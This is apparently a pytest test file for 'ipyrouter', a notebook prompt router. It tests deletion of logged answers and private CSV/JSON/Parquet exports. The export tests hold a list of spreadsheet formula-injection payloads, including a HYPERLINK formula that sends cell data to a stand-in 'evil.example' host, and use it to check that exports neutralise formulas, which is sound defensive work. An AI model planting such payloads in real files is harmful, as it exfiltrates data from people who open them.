"""What is forgotten is gone, to the last byte; and exports carry no formula and are the owner's alone."""

from __future__ import annotations

import csv
import datetime as dt
import os
import sqlite3
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import ipyrouter
from ipyrouter.errors import StoreError, UsageError
from ipyrouter.router import Router
from tests.notebook.conftest import Shell

MakeRouter = Callable[..., Router]
BEFORE_NOON = dt.datetime(2026, 1, 1, 12, tzinfo=dt.UTC)


def stored(home: Path, word: str) -> bool:
    return any(word.encode() in file.read_bytes() for file in home.glob("ipyrouter.db*"))


def age(home: Path, prompt: str, moment: dt.datetime) -> None:
    """Move an answer's time back, as if it had been given then; its cache entry with it."""
    with sqlite3.connect(home / "ipyrouter.db") as connection:
        (name, then) = connection.execute("SELECT id, time FROM answers WHERE prompt = ?", (prompt,)).fetchone()
        for table, column in (("answers", "id"), ("attempts", "answer_id")):
            connection.execute(f"UPDATE {table} SET time = ? WHERE {column} = ?", (int(moment.timestamp() * 1e6), name))
        connection.execute("UPDATE cache SET created = ? WHERE created = ?", (int(moment.timestamp() * 1e6), then))
    connection.close()


@pytest.fixture
def echoing(make_router: MakeRouter) -> Router:
    router = make_router(fast=["o/echo"], mid=["o/echo"], power=["o/echo"], validation={"escalate": False})
    router.route("Explain walrusing and nothing else", system="Speak narwhal")
    router.route("Explain pangolins and nothing else")
    return router


@pytest.mark.parametrize("content", [False, True])
def test_an_answer_is_forgotten(echoing: Router, home: Path, content: bool) -> None:
    answer = echoing.route("Explain walrusing and nothing else", system="Speak narwhal", cache="refresh")
    spent = echoing.log()["cost_pico"].sum()
    assert stored(home, "walrusing")
    first, other, last = echoing.log()["answer_id"]
    assert echoing.forget(answer, content=content) == 1
    assert last == answer.id
    assert echoing.forget(first, content=content) == 1  # the same words, asked before
    assert not stored(home, "walrusing")
    assert not stored(home, "narwhal")
    assert stored(home, "pangolins")
    log = echoing.log()
    if content:
        assert log["cost_pico"].sum() == spent
        assert list(log["prompt"].isna()) == [True, False, True]
        assert list(log["text"].isna()) == [True, False, True]
    else:
        assert list(log["answer_id"]) == [other]
    assert not echoing.route("Explain walrusing and nothing else", system="Speak narwhal").cached
    assert echoing.route("Explain pangolins and nothing else").cached


def test_forgetting_an_answer_from_the_cache_forgets_the_cached_one(echoing: Router) -> None:
    again = echoing.route("Explain pangolins and nothing else")
    assert again.cached
    echoing.forget(again)
    assert not echoing.route("Explain pangolins and nothing else").cached


@pytest.mark.parametrize("content", [False, True])
def test_all_before_a_date_is_forgotten(echoing: Router, home: Path, content: bool) -> None:
    age(home, "Explain walrusing and nothing else", BEFORE_NOON)
    assert echoing.forget(before="2026-01-01", content=content) == 0
    assert stored(home, "walrusing")
    assert echoing.forget(before="2026-01-02", content=content) == 1
    assert not stored(home, "walrusing")
    assert stored(home, "pangolins")
    assert len(echoing.log()) == (2 if content else 1)


def test_all_texts_are_forgotten_and_costs_stay(echoing: Router, home: Path) -> None:
    spent = echoing.report().spent
    assert echoing.forget(content=True) == 2
    for word in ("walrusing", "pangolins", "narwhal"):
        assert not stored(home, word)
    assert echoing.report().spent == spent
    assert echoing.store.health().cached == 0
    assert echoing.log()["prompt"].isna().all()


def test_what_went_to_memory_is_forgotten_too(echoing: Router, home: Path) -> None:
    lock = sqlite3.connect(home / "ipyrouter.db", isolation_level=None)
    lock.execute("BEGIN IMMEDIATE")
    echoing.store._database._busy = 0.05  # type: ignore[attr-defined]
    echoing.store.close()
    answer = echoing.route("Explain okapis and nothing else")
    with pytest.raises(StoreError, match="nothing was deleted"):
        echoing.forget(answer)
    lock.execute("COMMIT")
    lock.close()
    assert echoing.forget(answer) == 1
    assert not stored(home, "okapis")
    assert len(echoing.log()) == 2


def test_another_kernel_that_reads_is_named(echoing: Router, home: Path) -> None:
    reader = sqlite3.connect(home / "ipyrouter.db", isolation_level=None)
    reader.execute("BEGIN")
    reader.execute("SELECT * FROM answers").fetchall()
    with pytest.raises(StoreError, match="their bytes may still be in"):
        echoing.forget(content=True)
    reader.execute("COMMIT")
    reader.close()
    echoing.forget(content=True)
    assert not stored(home, "walrusing")


def test_what_cannot_be_forgotten(echoing: Router) -> None:
    with pytest.raises(UsageError, match="Nothing is chosen"):
        echoing.forget()
    with pytest.raises(UsageError, match="not in the log"):
        echoing.forget("nosuch")
    with pytest.raises(UsageError, match="is not a valid date"):
        echoing.forget(before="yore")


def test_the_magic(echoing: Router, shell: Shell, home: Path) -> None:
    ipyrouter.use_router(echoing)
    shell.run("%%route -q -o mine\nExplain okapis and nothing else")
    assert "forget [ANSWER]" in shell.run("%router").out
    assert "needs to know what" in str(shell.run("%router forget").error)
    assert "not in the log" in str(shell.run("%router forget nosuch").error)
    assert "takes one answer" in str(shell.run("%router forget a b").error)
    assert "the texts of 1 answer; their costs stay" in shell.run("%router forget mine --content").out
    assert not stored(home, "okapis")
    assert "Forgot 1 answer." in shell.run("%router forget mine").out
    assert "Forgot 0 answers" in shell.run("%router forget --before 2020-01-01").out
    (home / "ipyrouter.db.corrupt-1").write_bytes(b"x")
    out = shell.run("%router forget --content").out
    assert "the texts of 2 answers" in out
    assert "delete ipyrouter.db.corrupt-1" in out


# --- exports ---

EVIL = ('=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n=1",
        "\u3000=1",
        "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\ufeff=1", "\u00a0@x", '"=1"\r=2')  # fmt: skip


@pytest.mark.parametrize("reader", ["csv", "pandas"])
def test_no_cell_of_a_csv_is_a_formula_and_no_cr_breaks_a_row(
    make_router: MakeRouter,
    shell: Shell,
    reader: str,
) -> None:
    router = make_router(fast=["o/ok"], mid=["o/ok"])
    ipyrouter.use_router(router)
    prompts = [*EVIL, "one\rtwo", "three\r\nfour", "a plain one, with a comma"]
    for prompt in prompts:
        router.route(prompt + " x", system="s")
    shell.run("%router export log.csv")
    if reader == "csv":
        with Path("log.csv").open(newline="") as file:
            rows: Any = list(csv.DictReader(file))
        read = [row["prompt"] for row in rows]
        assert {row["cost_pico"] for row in rows} == {"410000000"}
        assert {row["input_tokens"] for row in rows} == {"120"}
    else:
        frame = pd.read_csv("log.csv")
        read = list(frame["prompt"])
        assert frame["cost"].dtype == float
        assert frame["estimated"].dtype == bool
        assert not frame["latency"].isna().any()
    assert len(read) == len(prompts)
    for prompt, cell in zip(prompts, read, strict=True):
        assert cell == ("'" if prompt in EVIL and not prompt.startswith('"') else "") + prompt + " x"


@pytest.mark.parametrize("suffix", ["csv", "json", "parquet"])
def test_exports_are_private_and_may_leave_content_out(
    make_router: MakeRouter,
    shell: Shell,
    suffix: str,
) -> None:
    ipyrouter.use_router(make_router(mid=["o/echo"], validation={"escalate": False}))
    shell.run("%%route -q\nExplain walrusing")
    path = Path(f"log.{suffix}")
    path.write_text("old and open to all")
    path.chmod(0o644)
    old = os.umask(0)
    try:
        assert "Wrote 1 row" in shell.run(f"%router export {path} --no-content").out
        assert b"walrusing" not in path.read_bytes()
        assert "Wrote 1 row" in shell.run(f"%router export --no-content new-{path}").out
        assert "Wrote 1 row" in shell.run(f"%router export all-{path}").out
    finally:
        os.umask(old)
    assert b"walrusing" in Path(f"all-{path}").read_bytes()
    for file in (path, Path(f"new-{path}"), Path(f"all-{path}")):
        assert stat.S_IMODE(file.stat().st_mode) == 0o600


def test_a_home_that_others_may_read_is_named_once(make_router: MakeRouter, home: Path) -> None:
    home.mkdir(mode=0o755)
    home.chmod(0o755)
    router = make_router()
    notes = [note for number in range(3) for note in router.route(f"Explain closures {number}").notes]
    assert len(notes) == 1
    assert f"chmod 700 {home}" in notes[0]


def test_what_a_project_may_not_set_is_a_note_at_the_first_answer(make_router: MakeRouter) -> None:
    Path("ipyrouter.toml").write_text("[log]\ncontent = false\n")
    router = make_router()
    notes = [note for number in range(3) for note in router.route(f"Explain closures {number}").notes]
    assert len(notes) == 1
    assert "log.content" in notes[0]
    assert router.config.log_content
